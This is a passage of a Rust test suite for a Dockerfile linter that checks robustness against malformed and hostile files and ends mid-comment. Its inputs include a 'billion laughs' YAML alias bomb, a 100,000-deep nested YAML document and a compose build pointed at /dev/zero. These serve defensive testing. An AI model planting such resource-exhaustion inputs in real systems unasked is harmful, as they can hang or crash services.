//! Hostile input: every strange file a linter meets in CI and pre-commit. Each case runs the real binary
//! on a tree holding the strange file beside an ordinary one, and asserts a clear diagnostic (or a skip
//! with its reason), the exit code, and that the ordinary file is still checked. Big inputs run under a
//! memory limit (`prlimit --as`) when the machine has `prlimit`. No assertion is about time.
mod common;

use std::path::Path;
use std::process::{Command, Output, Stdio};

use common::{stderr, stdout};

/// The ordinary file of every tree: one CB001 at line 2.
const OTHER: &str = "FROM alpine\nRUN git clone -b main https://github.com/acme/other.git /o\n";
const OTHER_FIXED: &str = "FROM alpine\nARG CACHE_BUST=unknown\nRUN echo \"Cache bust: ${CACHE_BUST}\"\nRUN git clone -b main https://github.com/acme/other.git /o\n";
const OTHER_FINDING: &str = "other/Dockerfile:2:5: CB001";

/// A temporary tree with `other/Dockerfile` in it.
fn tree() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "other/Dockerfile", OTHER.as_bytes());
    dir
}

fn write(root: &Path, path: &str, bytes: &[u8]) {
    let path = root.join(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, bytes).unwrap();
}

fn command(dir: &Path, args: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_cachebust"));
    command
        .args(args)
        .current_dir(dir)
        .env("COLUMNS", "100")
        .env("NO_COLOR", "1")
        .env_remove("RUST_BACKTRACE")
        .env_remove("CACHE_BUST")
        .stdin(Stdio::null());
    command
}

/// A test that cannot run its real check here says why; under CI (`CI=true`) that is a failure, so a
/// green CI run has run every check (a skip must never pass for a pass).
fn skip(why: &str) {
    assert!(
        std::env::var("CI").as_deref() != Ok("true"),
        "skipped under CI, which must run every test: {why}"
    );
    eprintln!("skipped: {why}");
}

/// `cachebust check --isolated --output-format concise ARGS…` in `dir`.
fn check(dir: &Path, args: &[&str]) -> Output {
    let mut all = vec!["check", "--isolated", "--output-format", "concise"];
    all.extend(args);
    command(dir, &all).output().unwrap()
}

/// [`check`] under an address-space limit of `mib`, when `prlimit` exists (else without, saying so).
fn check_limited(dir: &Path, mib: u64, args: &[&str]) -> Output {
    let probe = Command::new("prlimit").arg("--version").output();
    if !probe.is_ok_and(|o| o.status.success()) {
        skip("prlimit is not installed: running without a memory limit");
        return check(dir, args);
    }
    Command::new("prlimit")
        .arg(format!("--as={}", mib << 20))
        .arg("--")
        .arg(env!("CARGO_BIN_EXE_cachebust"))
        .args(["check", "--isolated", "--output-format", "concise"])
        .args(args)
        .current_dir(dir)
        .env("COLUMNS", "100")
        .env("NO_COLOR", "1")
        .env_remove("RUST_BACKTRACE")
        .env_remove("CACHE_BUST")
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

fn code(out: &Output) -> Option<i32> {
    out.status.code()
}

/// The run ended normally and still reported the ordinary file.
#[track_caller]
fn assert_other_checked(out: &Output) {
    let (stdout, stderr) = (stdout(out), stderr(out));
    assert!(
        stdout.contains(OTHER_FINDING),
        "stdout:\n{stdout}\nstderr:\n{stderr}"
    );
    assert_no_panic(out);
}

#[track_caller]
fn assert_no_panic(out: &Output) {
    let stderr = stderr(out);
    for sign in [
        "internal error",
        "panicked",
        "stack backtrace",
        "RUST_BACKTRACE",
    ] {
        assert!(!stderr.contains(sign), "{sign} in stderr:\n{stderr}");
    }
}

#[test]
fn an_empty_file_is_a_syntax_error_and_the_rest_is_checked() {
    let dir = tree();
    write(dir.path(), "empty/Dockerfile", b"");
    let out = check(dir.path(), &[]);
    assert_eq!(code(&out), Some(1));
    assert!(
        stdout(&out).contains("empty/Dockerfile:1:1: CB000 [error] cannot parse this file: expected at least one FROM instruction"),
        "{}",
        stdout(&out)
    );
    assert_other_checked(&out);
}

#[test]
fn a_file_of_only_comments_is_a_syntax_error() {
    let dir = tree();
    write(
        dir.path(),
        "comments/Dockerfile",
        b"# syntax=docker/dockerfile:1\n# nothing here\n\n#\n",
    );
    let out = check(dir.path(), &[]);
    assert_eq!(code(&out), Some(1));
    assert!(
        stdout(&out).contains("comments/Dockerfile:1:1: CB000"),
        "{}",
        stdout(&out)
    );
    assert_other_checked(&out);
}

#[test]
fn non_utf8_bytes_are_reported_with_their_offset_and_never_fixed() {
    let dir = tree();
    let bytes = b"FROM alpine\nRUN echo \xff\xfe caf\xe9\nRUN git clone -b main https://github.com/a/b.git\n";
    write(dir.path(), "latin1/Dockerfile", bytes);
    let out = check(dir.path(), &["--fix"]);
    assert_eq!(code(&out), Some(1));
    assert!(
        stdout(&out).contains(
            "latin1/Dockerfile:2:10: CB000 [error] cannot parse this file: it is not UTF-8 text (invalid byte at offset 21)"
        ),
        "{}",
        stdout(&out)
    );
    assert_eq!(
        std::fs::read(dir.path().join("latin1/Dockerfile")).unwrap(),
        bytes
    );
    // The ordinary file was fixed: nothing of it remains.
    assert_eq!(
        std::fs::read_to_string(dir.path().join("other/Dockerfile")).unwrap(),
        OTHER_FIXED
    );
    assert_no_panic(&out);
}

/// UTF-16 is named as such and not decoded: Docker reads Dockerfiles as UTF-8 only.
#[test]
fn utf16_with_a_byte_order_mark_is_named_and_unsupported() {
    let dir = tree();
    let utf16 = |text: &str, little: bool| -> Vec<u8> {
        let mut bytes = if little {
            vec![0xff, 0xfe]
        } else {
            vec![0xfe, 0xff]
        };
        for unit in text.encode_utf16() {
            bytes.extend(if little {
                unit.to_le_bytes()
            } else {
                unit.to_be_bytes()
            });
        }
        bytes
    };
    write(dir.path(), "le/Dockerfile", &utf16(OTHER, true));
    write(dir.path(), "be/Dockerfile", &utf16(OTHER, false));
    write(
        dir.path(),
        "compose.yaml",
        &utf16("services:\n  a:\n    build: ./other\n", true),
    );
    let out = check(dir.path(), &["--fix"]);
    assert_eq!(code(&out), Some(1));
    let stdout = stdout(&out);
    for line in [
        "le/Dockerfile:1:1: CB000 [error] cannot parse this file: it is UTF-16 text (a little-endian byte order mark), which cachebust does not read",
        "be/Dockerfile:1:1: CB000 [error] cannot parse this file: it is UTF-16 text (a big-endian byte order mark), which cachebust does not read",
        "compose.yaml:1:1: CB000 [error] cannot parse this compose file: it is UTF-16 text (a little-endian byte order mark), which cachebust does not read; save it as UTF-8",
    ] {
        assert!(stdout.contains(line), "no `{line}` in\n{stdout}");
    }
    assert_eq!(
        std::fs::read(dir.path().join("le/Dockerfile")).unwrap(),
        utf16(OTHER, true)
    );
    assert_no_panic(&out);
}

/// A NUL inside an instruction is text like any other; on a line of its own it is an unknown instruction.
#[test]
fn nul_bytes_are_text_or_a_syntax_error() {
    let dir = tree();
    let run = b"FROM alpine\nRUN echo \0\0 && git clone -b main https://github.com/a/b.git /b\n";
    write(dir.path(), "in-run/Dockerfile", run);
    write(
        dir.path(),
        "alone/Dockerfile",
        b"FROM alpine\nRUN echo hi\n\0\n",
    );
    let out = check(dir.path(), &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    let stdout = stdout(&out);
    assert!(stdout.contains("in-run/Dockerfile:2:16: CB001"), "{stdout}");
    assert!(
        stdout.contains(
            "alone/Dockerfile:3:1: CB000 [error] cannot parse this file: unknown instruction"
        ),
        "{stdout}"
    );
    assert_other_checked(&out);
}

/// Over the 10 MiB limit: skipped with its size, as an I/O error (exit 2), the rest checked, and the
/// run stays small (it never reads the file).
#[test]
fn a_50_mb_file_is_skipped_with_its_size() {
    let dir = tree();
    let line = "RUN git clone -b main https://github.com/acme/toolkit.git /src && echo done\n";
    let mut text = String::from("FROM alpine\n");
    text += &line.repeat((50 << 20) / line.len());
    write(dir.path(), "big/Dockerfile", text.as_bytes());
    let out = check_limited(dir.path(), 256, &[]);
    assert_eq!(code(&out), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains(
            "error: big/Dockerfile: cannot read: it is 50.0 MiB, over the 10 MiB that cachebust reads of a file; skipped"
        ),
        "{}",
        stderr(&out)
    );
    assert_other_checked(&out);
    // Named on the command line, or piped in: the same.
    let out = check_limited(dir.path(), 256, &["big/Dockerfile", "other"]);
    assert_eq!(code(&out), Some(2));
    assert_other_checked(&out);
    let piped = command(dir.path(), &["check", "--isolated", "-"])
        .stdin(std::fs::File::open(dir.path().join("big/Dockerfile")).unwrap())
        .output()
        .unwrap();
    assert_eq!(code(&piped), Some(2));
    assert!(
        stderr(&piped).contains("cannot read standard input: it is"),
        "{}",
        stderr(&piped)
    );
}

#[test]
fn a_single_5_mb_line_is_linted_within_bounded_memory() {
    let dir = tree();
    let mut text = String::from("FROM alpine\nRUN echo ");
    text += &"a".repeat(5 << 20);
    text += " && git clone -b main https://github.com/acme/long.git /l\n";
    write(dir.path(), "long/Dockerfile", text.as_bytes());
    let out = check_limited(dir.path(), 512, &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("long/Dockerfile:2:5242894: CB001"),
        "{}",
        stdout(&out)
    );
    assert_other_checked(&out);
}

#[test]
fn ten_thousand_continuation_lines_are_one_instruction() {
    let dir = tree();
    let mut text = String::from("FROM alpine\nRUN echo start \\\n");
    text += &"  && echo more \\\n".repeat(10_000);
    text += "  && git clone -b main https://github.com/acme/cont.git /c\n";
    write(dir.path(), "cont/Dockerfile", text.as_bytes());
    let out = check_limited(dir.path(), 512, &["--fix"]);
    assert_eq!(code(&out), Some(0), "{}\n{}", stdout(&out), stderr(&out));
    let fixed = std::fs::read_to_string(dir.path().join("cont/Dockerfile")).unwrap();
    assert!(
        fixed.starts_with("FROM alpine\nARG CACHE_BUST=unknown\nRUN echo \"Cache bust: ${CACHE_BUST}\"\nRUN echo start \\\n"),
        "{}",
        &fixed[..200]
    );
    assert_eq!(fixed.len(), text.len() + OTHER_FIXED.len() - OTHER.len());
    assert_no_panic(&out);
}

/// Many findings in one file: the full report stays linear (it was quadratic: minutes for 2 MB).
#[test]
fn many_findings_in_one_file_render_in_full() {
    let dir = tree();
    let line = "RUN git clone -b main https://github.com/acme/t.git /s\r\n";
    let text = format!("FROM alpine\r\n{}", line.repeat(3000));
    write(dir.path(), "many/Dockerfile", text.as_bytes());
    let out = command(dir.path(), &["check", "--isolated"])
        .output()
        .unwrap();
    assert_eq!(code(&out), Some(1));
    let stdout = stdout(&out);
    assert!(
        stdout.contains("Found 3001 findings in 2 of 2 files checked"),
        "{}",
        &stdout[stdout.len().saturating_sub(300)..]
    );
    assert!(
        stdout.contains("3001 │ RUN git clone"),
        "the last finding's excerpt is numbered right"
    );
    assert_no_panic(&out);
}

#[test]
fn deeply_nested_yaml_is_an_error_not_a_stack_overflow() {
    let dir = tree();
    let depth = 100_000;
    let mut text = String::from("services:\n  a:\n    build: ./other\nx: ");
    text += &"[".repeat(depth);
    text += &"]".repeat(depth);
    text += "\ny:\n";
    for i in 0..2000 {
        text += &" ".repeat(2 + i);
        text += "k:\n";
    }
    write(dir.path(), "compose.yaml", text.as_bytes());
    let out = check_limited(dir.path(), 512, &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    assert!(stdout(&out).contains("compose.yaml:4:"), "{}", stdout(&out));
    assert!(stdout(&out).contains("CB000"), "{}", stdout(&out));
    assert_other_checked(&out);
}

/// "Billion laughs": nine levels of nine aliases. The parser's budget stops it early.
#[test]
fn a_yaml_alias_bomb_is_an_error_in_bounded_memory() {
    let dir = tree();
    let mut text = String::from("services:\n  a:\n    build: ./other\nl0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for i in 1..10 {
        let aliases = vec![format!("*l{}", i - 1); 9].join(", ");
        text += &format!("l{i}: &l{i} [{aliases}]\n");
    }
    write(dir.path(), "compose.yaml", text.as_bytes());
    let out = check_limited(dir.path(), 512, &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    assert!(stdout(&out).contains("compose.yaml:"), "{}", stdout(&out));
    assert!(stdout(&out).contains("CB000"), "{}", stdout(&out));
    assert_other_checked(&out);
}

#[test]
fn a_directory_named_dockerfile_is_walked_not_read() {
    let dir = tree();
    write(dir.path(), "Dockerfile/inner/Dockerfile", OTHER.as_bytes());
    std::fs::create_dir_all(dir.path().join("empty/Dockerfile")).unwrap();
    let out = check(dir.path(), &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("Dockerfile/inner/Dockerfile:2:5: CB001"),
        "{}",
        stdout(&out)
    );
    assert_eq!(stderr(&out), "");
    assert_other_checked(&out);
    // Named on the command line, it is a directory to walk, which holds nothing to lint.
    let out = check(dir.path(), &["empty/Dockerfile"]);
    assert_eq!(
        (code(&out), stdout(&out), stderr(&out)),
        (
            Some(0),
            String::new(),
            "warning: no Dockerfile or compose file found under `empty/Dockerfile`\n".into()
        )
    );
}

/// Root reads any file, so the unreadable case runs as `nobody` (through `setpriv`) when run as root.
#[cfg(unix)]
#[test]
fn an_unreadable_file_is_an_error_and_the_rest_is_checked() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tree();
    write(dir.path(), "secret/Dockerfile", OTHER.as_bytes());
    let mode = |p: &str, m: u32| {
        std::fs::set_permissions(dir.path().join(p), std::fs::Permissions::from_mode(m)).unwrap()
    };
    mode("secret/Dockerfile", 0o000);
    for p in [".", "other", "secret", "other/Dockerfile"] {
        mode(
            p,
            if p.ends_with("Dockerfile") {
                0o644
            } else {
                0o755
            },
        );
    }
    let root = unsafe { libc::geteuid() } == 0;
    let out = if root {
        let Ok(out) = Command::new("setpriv")
            .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
            .arg(env!("CARGO_BIN_EXE_cachebust"))
            .args(["check", "--isolated", "--output-format", "concise"])
            .current_dir(dir.path())
            .env_remove("RUST_BACKTRACE")
            .output()
        else {
            return skip("running as root and `setpriv` is not installed");
        };
        if stderr(&out).contains("setpriv:") || !Path::new(env!("CARGO_BIN_EXE_cachebust")).exists()
        {
            return skip(&format!("cannot run as nobody: {}", stderr(&out)));
        }
        out
    } else {
        check(dir.path(), &[])
    };
    if stderr(&out).contains("Permission denied") && !stdout(&out).contains(OTHER_FINDING) {
        return skip(&format!(
            "nobody cannot run the test binary here: {}",
            stderr(&out)
        ));
    }
    assert_eq!(code(&out), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("error: secret/Dockerfile: cannot read: Permission denied"),
        "{}",
        stderr(&out)
    );
    assert_other_checked(&out);
}

#[cfg(unix)]
#[test]
fn broken_and_looping_symlinks_are_errors_and_the_rest_is_checked() {
    let dir = tree();
    let root = dir.path();
    std::fs::create_dir(root.join("links")).unwrap();
    std::os::unix::fs::symlink("nowhere/Dockerfile", root.join("links/Dockerfile")).unwrap();
    std::os::unix::fs::symlink("b.Dockerfile", root.join("links/a.Dockerfile")).unwrap();
    std::os::unix::fs::symlink("a.Dockerfile", root.join("links/b.Dockerfile")).unwrap();
    // A directory link back up the tree: the walk must not follow it (it would never end).
    std::os::unix::fs::symlink("..", root.join("links/up")).unwrap();
    let out = check(root, &[]);
    assert_eq!(code(&out), Some(2), "{}", stderr(&out));
    let stderr = stderr(&out);
    for error in [
        "links/Dockerfile: broken symlink: No such file or directory",
        "links/a.Dockerfile: broken symlink: Too many levels of symbolic links",
        "links/b.Dockerfile: broken symlink: Too many levels of symbolic links",
    ] {
        assert!(stderr.contains(error), "no `{error}` in\n{stderr}");
    }
    assert_eq!(
        stdout(&out).matches(OTHER_FINDING).count(),
        1,
        "{}",
        stdout(&out)
    );
    assert_other_checked(&out);
}

#[cfg(unix)]
#[test]
fn a_symlink_out_of_the_tree_is_skipped_by_the_walk_and_never_fixed() {
    let outside = tempfile::tempdir().unwrap();
    write(outside.path(), "Dockerfile", OTHER.as_bytes());
    let dir = tree();
    let root = dir.path();
    std::fs::create_dir(root.join("svc")).unwrap();
    std::os::unix::fs::symlink(
        outside.path().join("Dockerfile"),
        root.join("svc/Dockerfile"),
    )
    .unwrap();
    // Inside the tree, a link is followed: its findings are reported and fixed through it.
    std::os::unix::fs::symlink("../other/Dockerfile", root.join("svc/inner.Dockerfile")).unwrap();
    let out = check(root, &["--fix"]);
    let target = outside.path().canonicalize().unwrap().join("Dockerfile");
    assert_eq!(
        stderr(&out),
        format!(
            "warning: svc/Dockerfile: skipped: a symlink to `{}`, outside the tree being checked\n\
             Fixed 1 finding in other/Dockerfile\n",
            target.display()
        )
    );
    assert_eq!(code(&out), Some(0), "{}", stdout(&out));
    assert_eq!(std::fs::read_to_string(&target).unwrap(), OTHER);
    assert_eq!(
        std::fs::read_to_string(root.join("other/Dockerfile")).unwrap(),
        OTHER_FIXED
    );
    // Named on the command line, it is linted, but not written.
    let out = check(root, &["--fix", "svc/Dockerfile"]);
    assert_eq!(code(&out), Some(2));
    assert_eq!(
        stderr(&out),
        format!(
            "error: svc/Dockerfile: not fixed: it is a symlink to `{}`, outside the working directory \
             and the paths checked\n",
            target.display()
        )
    );
    assert!(
        stdout(&out).contains("svc/Dockerfile:2:5: CB001"),
        "{}",
        stdout(&out)
    );
    assert_eq!(std::fs::read_to_string(&target).unwrap(), OTHER);
    assert!(std::fs::symlink_metadata(root.join("svc/Dockerfile"))
        .unwrap()
        .file_type()
        .is_symlink());
}

/// Files deleted while the walk and the reads go on: each is an error or unseen, never a crash.
#[test]
fn files_vanishing_during_the_walk_are_errors_not_crashes() {
    let dir = tree();
    let root = dir.path().to_path_buf();
    for i in 0..400 {
        write(&root, &format!("many/{i:03}/Dockerfile"), OTHER.as_bytes());
    }
    let deleter = {
        let root = root.clone();
        std::thread::spawn(move || {
            for i in (0..400).rev() {
                let _ = std::fs::remove_dir_all(root.join(format!("many/{i:03}")));
            }
        })
    };
    let out = check(&root, &[]);
    deleter.join().unwrap();
    assert!(matches!(code(&out), Some(1 | 2)), "{:?}", out.status);
    for line in stderr(&out).lines() {
        assert!(
            line.starts_with("error: ") && line.contains("No such file or directory"),
            "unexpected stderr line: {line}"
        );
    }
    assert_other_checked(&out);
}

/// `--fix` while another process rewrites the file: the file ends as one of the whole texts, never a
/// mix, and a file changed since it was read is not written over.
#[test]
fn a_file_changed_during_fix_is_never_torn() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("Dockerfile");
    let theirs = "FROM debian\nRUN pip install git+https://github.com/acme/x.git@dev\n".repeat(50);
    let theirs_fixed = {
        let probe = tempfile::tempdir().unwrap();
        write(probe.path(), "Dockerfile", theirs.as_bytes());
        check(probe.path(), &["--fix"]);
        std::fs::read_to_string(probe.path().join("Dockerfile")).unwrap()
    };
    for _ in 0..5 {
        std::fs::write(&path, OTHER).unwrap();
        let fixer = command(
            dir.path(),
            &["check", "--isolated", "--fix", "--output-format", "concise"],
        )
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
        // The other writer replaces the file whole, as editors do.
        let temp = dir.path().join("theirs.tmp");
        std::fs::write(&temp, &theirs).unwrap();
        std::fs::rename(&temp, &path).unwrap();
        let out = fixer.wait_with_output().unwrap();
        assert_no_panic(&out);
        let now = std::fs::read_to_string(&path).unwrap();
        assert!(
            [OTHER, OTHER_FIXED, theirs.as_str(), theirs_fixed.as_str()].contains(&now.as_str()),
            "a torn file:\n{now}"
        );
        if stderr(&out).contains("changed on disk since it was read") {
            assert_eq!(code(&out), Some(2));
            assert_eq!(now, theirs);
        }
        assert_eq!(leftovers(dir.path()), Vec::<String>::new());
    }
}

/// Two `--fix` runs on one tree at once: every file ends as its original or its fixed text.
#[test]
fn two_concurrent_fix_runs_never_tear_a_file() {
    let dir = tempfile::tempdir().unwrap();
    let texts: Vec<String> = (0..30)
        .map(|i| {
            format!(
                "FROM alpine AS s{i}\n{}RUN git clone -b main https://github.com/acme/r{i}.git /r\n",
                "RUN echo padding\n".repeat(i * 20)
            )
        })
        .collect();
    // The expected fixed texts, from a run alone.
    let alone = tempfile::tempdir().unwrap();
    for (i, original) in texts.iter().enumerate() {
        write(
            alone.path(),
            &format!("s{i}/Dockerfile"),
            original.as_bytes(),
        );
    }
    check(alone.path(), &["--fix"]);
    let fixed: Vec<String> = (0..texts.len())
        .map(|i| std::fs::read_to_string(alone.path().join(format!("s{i}/Dockerfile"))).unwrap())
        .collect();
    assert!(fixed
        .iter()
        .zip(&texts)
        .all(|(f, o)| f != o && f.contains("ARG CACHE_BUST")));
    for _ in 0..4 {
        for (i, original) in texts.iter().enumerate() {
            write(dir.path(), &format!("s{i}/Dockerfile"), original.as_bytes());
        }
        let spawn = || {
            command(
                dir.path(),
                &["check", "--isolated", "--fix", "--output-format", "concise"],
            )
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
        };
        let (a, b) = (spawn(), spawn());
        for out in [a.wait_with_output().unwrap(), b.wait_with_output().unwrap()] {
            assert_no_panic(&out);
            assert!(matches!(code(&out), Some(0 | 2)), "{}", stderr(&out));
            for line in stderr(&out).lines().filter(|l| l.starts_with("error")) {
                assert!(
                    line.ends_with("changed on disk since it was read; not written"),
                    "{line}"
                );
            }
        }
        for (i, original) in texts.iter().enumerate() {
            let now = std::fs::read_to_string(dir.path().join(format!("s{i}/Dockerfile"))).unwrap();
            assert!(
                now == *original || now == fixed[i],
                "s{i}/Dockerfile is torn:\n{now}"
            );
            assert_eq!(
                leftovers(&dir.path().join(format!("s{i}"))),
                Vec::<String>::new()
            );
        }
    }
}

/// The temporary files of the atomic write left in `dir`.
fn leftovers(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".cachebust"))
        .collect()
}

/// A full disk: a small tmpfs (needs root and `mount`; skipped with the reason otherwise). The write
/// fails, the original stays whole, no temporary file is left, and the exit code is 2.
#[cfg(target_os = "linux")]
#[test]
fn a_full_disk_leaves_the_original_intact() {
    let dir = tempfile::tempdir().unwrap();
    let mount = Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=64k", "tmpfs"])
        .arg(dir.path())
        .output();
    match mount {
        Ok(out) if out.status.success() => {}
        Ok(out) => {
            return skip(&format!("cannot mount a tmpfs: {}", stderr(&out).trim()));
        }
        Err(e) => {
            return skip(&format!("cannot run mount: {e}"));
        }
    }
    struct Unmount<'a>(&'a Path);
    impl Drop for Unmount<'_> {
        fn drop(&mut self) {
            let _ = Command::new("umount").arg(self.0).status();
        }
    }
    let _unmount = Unmount(dir.path());
    // 40 KiB of a 64 KiB file system: the temporary copy cannot fit beside it.
    let text = format!(
        "FROM alpine\n{}RUN git clone -b main https://github.com/a/b.git\n",
        "# filler line\n".repeat(2900)
    );
    write(dir.path(), "Dockerfile", text.as_bytes());
    let out = check(dir.path(), &["--fix"]);
    assert_eq!(code(&out), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("error: Dockerfile: cannot write: No space left on device"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("Dockerfile")).unwrap(),
        text
    );
    assert_eq!(leftovers(dir.path()), Vec::<String>::new());
    assert_no_panic(&out);
}

#[cfg(unix)]
#[test]
fn a_read_only_file_is_not_written() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tree();
    let path = dir.path().join("other/Dockerfile");
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o444)).unwrap();
    let out = check(dir.path(), &["--fix"]);
    assert_eq!(code(&out), Some(2));
    assert!(
        stderr(&out).contains("error: other/Dockerfile: the file is read-only; not written"),
        "{}",
        stderr(&out)
    );
    assert_eq!(std::fs::read_to_string(&path).unwrap(), OTHER);
    assert_other_checked(&out);
}

/// 0 clean, 1 findings, 2 for each kind of error.
#[test]
fn exit_codes_are_a_contract() {
    let dir = tree();
    write(
        dir.path(),
        "clean/Dockerfile",
        b"FROM alpine\nRUN echo hi\n",
    );
    write(dir.path(), "bad.toml", b"select = [\n");
    let cases: &[(&[&str], i32, &str)] = &[
        (&["check", "--isolated", "clean"], 0, ""),
        (&["check", "--isolated", "other"], 1, ""),
        (&["check", "--isolated", "--exit-zero", "other"], 0, ""),
        (&["check", "--isolated", "--diff", "other"], 1, ""),
        (
            &["check", "--isolated", "--no-such-flag"],
            2,
            "unexpected argument",
        ),
        (
            &["check", "--isolated", "--select", "CB999", "clean"],
            2,
            "unknown rule code",
        ),
        (
            &["check", "--isolated", "missing"],
            2,
            "missing: No such file or directory",
        ),
        (&["check", "--config", "bad.toml", "clean"], 2, "bad.toml"),
        (&["rule", "CB999"], 2, "no rule `CB999`"),
        (&["nonsense"], 2, "unrecognized subcommand"),
    ];
    for (args, want, says) in cases {
        let out = command(dir.path(), args).output().unwrap();
        assert_eq!(code(&out), Some(*want), "{args:?}: {}", stderr(&out));
        assert!(
            stderr(&out).contains(says),
            "{args:?}: no `{says}` in {}",
            stderr(&out)
        );
        assert_no_panic(&out);
    }
}

/// A panic is an internal error: exit 2, a request to report it, and no backtrace unless asked for.
/// Printing to a closed standard output is one that cachebust leaves to the guard.
#[cfg(unix)]
#[test]
fn a_panic_is_an_internal_error_with_exit_2_and_no_backtrace() {
    // A closed pipe used to panic here; it is a quiet exit now (tests/writer.rs), so the debug binary
    // is asked to panic instead.
    let out = command(Path::new("."), &["rule", "CB001"])
        .env("CACHEBUST_TEST_PANIC", "1")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .output()
        .unwrap();
    assert_eq!(code(&out), Some(2));
    let stderr = stderr(&out);
    assert!(stderr.starts_with("error: internal error: "), "{stderr}");
    assert!(
        stderr.contains("This is a bug in cachebust. Please report it"),
        "{stderr}"
    );
    assert!(!stderr.contains("stack backtrace"), "{stderr}");
    assert!(!stderr.contains("thread 'main'"), "{stderr}");
}

/// Found by fuzzing: a second byte order mark shifted every span by 3 bytes (the parser stripped one
/// more than cachebust knew), so `--fix` inserted its lines in the middle of another line. Docker reads
/// the second mark as part of the first line: the file does not parse.
#[test]
fn a_second_byte_order_mark_is_a_syntax_error_and_never_fixed() {
    let dir = tree();
    let text = "\u{feff}\u{feff}FROM alpine\nRUN apt-get update \\\n && apt-get install -y git\nRUN git clone -b main https://github.com/a/b.git /b\n";
    write(dir.path(), "boms/Dockerfile", text.as_bytes());
    let out = check(dir.path(), &["--fix"]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("boms/Dockerfile:1:1: CB000"),
        "{}",
        stdout(&out)
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("boms/Dockerfile")).unwrap(),
        text
    );
    assert_no_panic(&out);
}

/// Found by fuzzing: two cache-bust args both too early moved below each other on every pass until the
/// fixer gave up ("stopped after 10 fix passes … a bug in cachebust"). Neither move is offered now.
#[test]
fn two_busts_too_early_are_reported_not_moved_for_ever() {
    let dir = tree();
    let text = "FROM python:3.12-slim\nARG CACHE_BUST=unknown\nRUN echo \"Cache bust: ${CACHE_BUST}\"\nARG CACHEBUST=unknown\nRUN echo \"Cache bust: ${CACHEBUST}\"\nRUN pip install git+https://github.com/acme/web.git@main\n";
    write(dir.path(), "two/Dockerfile", text.as_bytes());
    let out = check(dir.path(), &["--fix", "--unsafe-fixes"]);
    assert!(!stderr(&out).contains("fix passes"), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("two/Dockerfile:2:1: CB003"),
        "{}",
        stdout(&out)
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("two/Dockerfile")).unwrap(),
        text
    );
    assert_eq!(code(&out), Some(1));
    assert_no_panic(&out);
}

/// A finding past column 65,535 made the full report panic inside miette; such a line is not excerpted.
#[test]
fn a_finding_far_along_a_long_line_is_shown_by_its_position() {
    let dir = tree();
    let text = format!(
        "FROM alpine\nRUN echo {} && git clone -b main https://github.com/acme/far.git /f\n",
        "a".repeat(70_000)
    );
    write(dir.path(), "far/Dockerfile", text.as_bytes());
    let out = command(dir.path(), &["check", "--isolated"])
        .output()
        .unwrap();
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("at far/Dockerfile:2:70014 (the line is too long to show)"),
        "{}",
        stdout(&out)
    );
    assert!(stdout(&out).len() < 10_000, "the long line is not printed");
    assert_no_panic(&out);
}

/// Each compose fix is checked by re-parsing the whole file: thousands of services made that quadratic
/// (a 300 KB file took minutes). Past a budget the findings come without a fix.
#[test]
fn a_compose_file_of_thousands_of_services_is_linted_in_bounded_work() {
    let dir = tree();
    write(
        dir.path(),
        "Dockerfile",
        b"FROM alpine\nARG CACHE_BUST\nRUN git clone -b main https://github.com/a/b.git\n",
    );
    let padding = format!("    # {}\n", "-".repeat(180));
    let mut text = String::from("services:\n");
    for i in 0..1500 {
        text += &format!("  s{i}:\n{padding}    build: .\n");
    }
    write(dir.path(), "compose.yaml", text.as_bytes());
    let out = check(dir.path(), &["--statistics"]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    assert!(
        stdout(&out).contains(" 1500  CB004  compose-cache-bust-not-passed"),
        "{}",
        stdout(&out)
    );
    let json = command(
        dir.path(),
        &[
            "check",
            "--isolated",
            "--output-format",
            "json",
            "compose.yaml",
        ],
    )
    .output()
    .unwrap();
    assert!(stdout(&json).contains("too many of these findings to check every fix at once"));
    assert_no_panic(&out);
}

/// A compose file may point a build anywhere: at a device that never ends. It is not read (it is not
/// a regular file; `read_file` refuses one too, should it become one between the check and the read).
#[cfg(unix)]
#[test]
fn a_compose_build_of_a_device_is_refused_not_read_for_ever() {
    let dir = tree();
    write(
        dir.path(),
        "compose.yaml",
        b"services:\n  zero:\n    build: {context: /dev, dockerfile: zero}\n",
    );
    let out = check_limited(dir.path(), 512, &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("compose.yaml:3:5: CB000 [error] service `zero` builds `/dev/zero`"),
        "{}",
        stdout(&out)
    );
    assert_other_checked(&out);
}

/// A FIFO named on the command line is an error at once: neither waited on (it has no writer) nor
